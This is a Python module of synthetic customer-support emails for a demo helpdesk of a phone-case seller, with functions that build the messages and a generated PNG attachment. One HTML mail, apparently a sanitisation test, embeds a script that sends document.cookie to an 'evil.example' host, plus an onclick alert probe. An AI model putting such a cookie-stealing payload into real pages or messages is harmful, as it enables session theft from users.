"""Realistic ProCase customer mails for the demo mailbox: data plus builder functions.

Message-IDs carry a per-run token, so every demo run brings new tickets (the helpdesk
drops mails it has already seen by Message-ID); replies point at their parent's
Message-ID of the same run.
"""

from __future__ import annotations

import struct
import zlib
from dataclasses import dataclass, field
from datetime import UTC, datetime
from email import policy
from email.message import EmailMessage
from email.utils import format_datetime, formataddr

SEED_COUNT = 6  # mails in the mailbox at start; the rest arrive one by one


@dataclass(frozen=True)
class DemoMail:
    """One customer mail; `reply_to` is the `key` of the mail it answers."""

    key: str
    name: str
    address: str
    subject: str
    body: str
    html: bool = False  # `body` is HTML (no plain-text part)
    photo: str | None = None  # attach a small generated photo with this file name
    reply_to: str | None = None
    headers: tuple[tuple[str, str], ...] = field(default=())


DEMO_MAILS: tuple[DemoMail, ...] = (
    DemoMail(
        key="wrong-item",
        name="Emily Carter",
        address="emily.carter@gmail.com",
        subject="Wrong item received - order #204377",
        body=(
            "Hi ProCase team,\n\n"
            "I ordered the ProCase iPad Air 5 folio case in navy (order #204377) but the box\n"
            "I got today has a pink Galaxy Tab S6 Lite case in it. Photo of what arrived is\n"
            "attached.\n\n"
            "Could you send the right case? I need it before a trip next week.\n\n"
            "Thanks,\nEmily\n"
        ),
        photo="what-i-received.png",
    ),
    DemoMail(
        key="keyboard",
        name="Michael Nguyen",
        address="m.nguyen@outlook.com",
        subject="Keyboard case stopped working",
        body=(
            "Hello,\n\n"
            "My ProCase keyboard case for the iPad 10th generation stopped working after\n"
            "about four months. The keyboard no longer pairs over Bluetooth; the light\n"
            "blinks blue and then goes out. My order number is #204518.\n\n"
            "Is this covered by the warranty?\n\n"
            "Michael Nguyen\n"
        ),
    ),
    DemoMail(
        key="amazon-return",
        name="Sarah Johnson",
        address="sarahj1987@yahoo.com",
        subject="Refund for Amazon order 112-4455667-8899001",
        body=(
            "Hi,\n\n"
            "I bought the rugged case for the Galaxy S23 on Amazon\n"
            "(order 112-4455667-8899001). It is much bulkier than the pictures show and\n"
            "does not fit in my pocket. I would like to return it for a refund. It is\n"
            "unused and still in the original packaging.\n\n"
            "Best regards,\nSarah Johnson\n"
        ),
    ),
    DemoMail(
        key="where-is-my-order",
        name="David Kim",
        address="dkim.design@gmail.com",
        subject="Where is my order?",
        body=(
            "Hello,\n\n"
            "I placed order #205102 on procase.com eight days ago (screen protector and a\n"
            "MagSafe wallet) and I still have not received a shipping confirmation or a\n"
            "tracking number. Can you tell me when it will ship?\n\n"
            "David\n"
        ),
    ),
    DemoMail(
        key="promo",
        name="Jessica Alvarez",
        address="jess.alvarez@icloud.com",
        subject="Promo code SPRING20 not working",
        body=(
            "Hi there,\n\n"
            "I got your newsletter with the code SPRING20 for 20% off, but the cart says\n"
            "the code is invalid. I am trying to buy two iPhone 15 cases and a charging\n"
            "cable. Is the code still valid?\n\n"
            "Thanks!\nJessica\n"
        ),
    ),
    DemoMail(
        key="youtube",
        name="Tom Becker",
        address="tom@techtalkwithtom.com",
        subject="YouTube reviewer partnership",
        body=(
            "Hi ProCase,\n\n"
            "I run Tech Talk with Tom, a YouTube channel with 85,000 subscribers about\n"
            "tablets and accessories. I would love to review your new keyboard cases for\n"
            "the iPad Pro M4 in an upcoming video. Would you send review samples, and do\n"
            "you have an affiliate program?\n\n"
            "Cheers,\nTom Becker\nyoutube.com/@techtalkwithtom\n"
        ),
    ),
    DemoMail(
        key="magsafe",
        name="Priya Patel",
        address="priya.patel@proton.me",
        subject="Question about MagSafe compatibility",
        body=(
            "Hello,\n\n"
            "Does your clear case for the iPhone 15 Pro Max work with MagSafe chargers and\n"
            "the MagSafe wallet, or only with regular Qi chargers?\n\n"
            "Thank you,\nPriya\n"
        ),
    ),
    DemoMail(
        key="keyboard-reply",
        name="Michael Nguyen",
        address="m.nguyen@outlook.com",
        subject="Re: Keyboard case stopped working",
        body=(
            "Hi again,\n\n"
            "I forgot to add: it is the ProCase iPad 10th Gen keyboard case in black. I\n"
            "charged it overnight with a different USB-C cable and reset it as the manual\n"
            "says, but it still will not pair.\n\n"
            "Michael\n\n"
            "> My ProCase keyboard case for the iPad 10th generation stopped working after\n"
            "> about four months.\n"
        ),
        reply_to="keyboard",
    ),
    DemoMail(
        key="html-return",
        name="Robert Chen",
        address="robert.chen@comcast.net",
        subject="Return tablet stand - order #205877",
        body=(
            "<html><head><style>p { font-family: Arial; }</style>"
            "<script>document.location='https://evil.example/steal?c='+document.cookie"
            "</script></head><body>"
            "<p>Hello,</p>"
            "<p>I would like to <b>return</b> the aluminum tablet stand from order "
            "<b>#205877</b> (bought on procase.com). It wobbles with my 12.9&quot; iPad "
            "Pro.</p>"
            "<p>Please send me a return label.</p>"
            '<p><a href="https://www.procase.com/account" onclick="alert(1)">My account</a>'
            "</p><p>Robert Chen</p></body></html>"
        ),
        html=True,
    ),
    DemoMail(
        key="out-of-office",
        name="Jessica Alvarez",
        address="jess.alvarez@icloud.com",
        subject="Automatic reply: Re: Promo code SPRING20 not working",
        body=(
            "I am out of the office until Monday with limited access to email.\n"
            "I will reply to your message when I am back.\n\n"
            "Jessica Alvarez\n"
        ),
        headers=(("Auto-Submitted", "auto-replied"), ("X-Autoreply", "yes")),
    ),
    DemoMail(
        key="wrong-color",
        name="Laura Schmidt",
        address="laura.schmidt@web.de",
        subject="Received the wrong case color",
        body=(
            "Hello,\n\n"
            "I ordered the Galaxy S24 Ultra slim case in black (order #205233) and received\n"
            "a purple one. Can I exchange it, or will you send the black one?\n\n"
            "Kind regards,\nLaura Schmidt\n"
        ),
    ),
    DemoMail(
        key="usb-hub",
        name="James O'Connor",
        address="jimoconnor@gmail.com",
        subject="Defective USB-C hub",
        body=(
            "Hi,\n\n"
            "The 7-in-1 USB-C hub I bought in January (order #204902) gets very hot and the\n"
            "HDMI port no longer shows anything on my monitor. The USB ports still work.\n"
            "What can you do?\n\n"
            "James O'Connor\n"
        ),
    ),
    DemoMail(
        key="tracking",
        name="Maria Gonzalez",
        address="maria.gonzalez77@hotmail.com",
        subject="Tracking number not updating",
        body=(
            "Hello,\n\n"
            "The tracking number for my order #205311 has said 'label created' for five\n"
            "days now. Has the package actually shipped?\n\n"
            "Gracias,\nMaria\n"
        ),
    ),
    DemoMail(
        key="teacher-discount",
        name="Kevin Brooks",
        address="kbrooks@lincolnhigh.org",
        subject="Discount for teachers?",
        body=(
            "Good morning,\n\n"
            "Do you offer an education discount? I teach at Lincoln High and would like\n"
            "to buy rugged cases for 30 iPad 9th generation tablets in our classroom.\n\n"
            "Kevin Brooks\n"
        ),
    ),
    DemoMail(
        key="kindle",
        name="Hannah Lee",
        address="hannah.lee@gmail.com",
        subject="Kindle Paperwhite 2024 cover?",
        body=(
            "Hi,\n\n"
            "Will you have a cover for the new Kindle Paperwhite (12th generation, 2024)?\n"
            "The one for the 11th generation does not fit.\n\n"
            "Thanks, Hannah\n"
        ),
    ),
    DemoMail(
        key="exchange-size",
        name="Brian Walsh",
        address="brian.walsh@yahoo.com",
        subject="Exchange for a different size",
        body=(
            "Hello,\n\n"
            "I ordered the iPad Pro 11 inch case (order #205640) but I have the 13 inch\n"
            "model. Can I exchange it for the right size? I have not used it.\n\n"
            "Brian\n"
        ),
    ),
    DemoMail(
        key="blog",
        name="Aisha Rahman",
        address="aisha@gadgetgirlblog.com",
        subject="Collaboration request from Gadget Girl Blog",
        body=(
            "Hi ProCase team,\n\n"
            "I write Gadget Girl Blog (40k monthly readers) and I am putting together a\n"
            "'best Galaxy Tab S9 cases' roundup. Would you like to be included? I would\n"
            "need a sample by the end of the month.\n\n"
            "Best,\nAisha Rahman\n"
        ),
    ),
    DemoMail(
        key="canada",
        name="Olivier Tremblay",
        address="o.tremblay@videotron.ca",
        subject="International shipping to Canada?",
        body=(
            "Bonjour,\n\n"
            "Do you ship to Canada from procase.com? I would like to order the keyboard\n"
            "case for the iPad Air 13.\n\n"
            "Merci,\nOlivier\n"
        ),
    ),
    DemoMail(
        key="amazon-return-reply",
        name="Sarah Johnson",
        address="sarahj1987@yahoo.com",
        subject="Re: Refund for Amazon order 112-4455667-8899001",
        body=(
            "Hi,\n\n"
            "Just checking in: should I start the return through Amazon, or will you send\n"
            "me a label? The order is 112-4455667-8899001.\n\n"
            "Thanks,\nSarah\n"
        ),
        reply_to="amazon-return",
    ),
    DemoMail(
        key="screen-protector",
        name="Daniel Wright",
        address="dan.wright@gmail.com",
        subject="Screen protector bubbles",
        body=(
            "Hello,\n\n"
            "I have tried three times to put on the tempered glass screen protector for my\n"
            "iPhone 15 and there are always bubbles at the edges. Any tips?\n\n"
            "Daniel\n"
        ),
    ),
)


def message_id(mail: DemoMail, run_id: str) -> str:
    """The mail's Message-ID (with angle brackets) for this demo run."""
    domain = mail.address.rpartition("@")[2]
    return f"<{mail.key}.{run_id}@{domain}>"


def build_message(
    mail: DemoMail, *, run_id: str, support_address: str, date: datetime | None = None
) -> EmailMessage:
    """`mail` as an EmailMessage to the support address."""
    by_key = {m.key: m for m in DEMO_MAILS}
    msg = EmailMessage(policy=policy.SMTP)
    msg["From"] = formataddr((mail.name, mail.address))
    msg["To"] = formataddr(("ProCase Support", support_address))
    msg["Subject"] = mail.subject
    msg["Date"] = format_datetime(date or datetime.now(UTC))
    msg["Message-ID"] = message_id(mail, run_id)
    if mail.reply_to:
        parent = message_id(by_key[mail.reply_to], run_id)
        msg["In-Reply-To"] = parent
        msg["References"] = parent
    for name, value in mail.headers:
        msg[name] = value
    if mail.html:
        msg.set_content(mail.body, subtype="html")
    else:
        msg.set_content(mail.body)
    if mail.photo:
        msg.add_attachment(tiny_png(), maintype="image", subtype="png", filename=mail.photo)
    return msg


def build_raw(mail: DemoMail, *, run_id: str, support_address: str) -> bytes:
    """`mail` as raw RFC 5322 bytes (CRLF line endings), dated now."""
    message = build_message(mail, run_id=run_id, support_address=support_address)
    return message.as_bytes(policy=policy.SMTP)


def tiny_png(width: int = 48, height: int = 32) -> bytes:
    """A small valid PNG: a pink phone case on a grey table (made in code, no file)."""
    rows = []
    for y in range(height):
        row = bytearray([0])  # filter type 0 per scanline
        for x in range(width):
            inside = 14 <= x < 34 and 3 <= y < 29
            edge = inside and (x in (14, 33) or y in (3, 28))
            lens = 17 <= x < 22 and 6 <= y < 11
            if lens:
                row += b"\x20\x20\x28"
            elif edge:
                row += b"\xb0\x30\x70"
            elif inside:
                row += b"\xf0\x90\xc0"
            else:
                row += bytes([200 - y, 200 - y, 205 - y])
        rows.append(bytes(row))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)  # 8-bit RGB
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"".join(rows), 9))
        + _png_chunk(b"IEND", b"")
    )


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(kind + data) & 0xFFFFFFFF
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)
